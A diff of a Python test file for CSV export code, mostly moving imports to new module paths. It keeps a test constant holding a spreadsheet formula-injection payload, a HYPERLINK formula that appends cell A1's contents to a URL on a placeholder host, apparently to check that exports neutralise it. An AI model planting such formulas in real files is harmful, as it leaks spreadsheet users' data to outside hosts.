@@ -9,9 +9,9 @@ from pathlib import Path
 import pytest
 
 from core import schema
-from core.contact_sheet import cells_csv
-from core.history import History, export_csv
-from core.runs import Run
+from core.runs.history import History, export_csv
+from core.runs.runs import Run
+from core.sweep.contact_sheet import cells_csv
 
 HYPERLINK = '=HYPERLINK("https://example.invalid/?"&A1,"open") café 東京'
 # what a prompt is → what its cell must read in the file
